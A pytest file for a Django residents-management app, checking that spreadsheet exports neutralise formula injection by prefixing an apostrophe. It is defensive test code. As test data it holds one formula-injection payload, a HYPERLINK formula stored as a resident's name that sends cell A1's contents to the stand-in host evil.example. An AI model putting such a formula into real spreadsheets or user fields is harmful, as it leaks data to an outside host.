"""Exported cells that a spreadsheet would run as formulas stay text (OWASP
formula injection): they get a leading apostrophe."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from residents import services
from residents.choices import Relation
from residents.exports import safe_cell
from residents.models import House

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+8613800138000", "'+8613800138000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("3-2-1501", "3-2-1501"),
        ("张伟", "张伟"),
        (12, 12),
        (None, None),
    ],
)
def test_safe_cell_neutralises_formula_starts(value, expected):
    assert safe_cell(value) == expected


def rows_of(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell for cell in row] for row in sheet.iter_rows(min_row=2)]


def test_house_export_writes_formula_like_text_as_text(client_for, supervisor, community):
    building = services.create_building(
        community=community, number="3", name="@楼", actor=supervisor, units=0, floors=1, rooms_per_floor=1
    )
    house = House.objects.get(building=building)
    services.add_resident(house=house, relation=Relation.OWNER, actor=supervisor, name=HYPERLINK)
    [row] = rows_of(client_for(supervisor).get(reverse("residents:house_export")))
    cells = {cell.column_letter: cell for cell in row}
    assert cells["A"].value == "3-101"
    assert (cells["B"].value, cells["B"].data_type) == ("'@楼", "s")
    assert (cells["K"].value, cells["K"].data_type) == ("'" + HYPERLINK, "s")
    assert not any(cell.data_type == "f" for cell in row)


def test_person_export_writes_formula_like_names_as_text(client_for, supervisor, household):
    services.update_person(household.owner, actor=supervisor, name="-1+1")
    [row] = rows_of(client_for(supervisor).get(reverse("residents:person_export")))
    assert (row[0].value, row[0].data_type) == ("'-1+1", "s")
    assert not any(cell.data_type == "f" for cell in row)
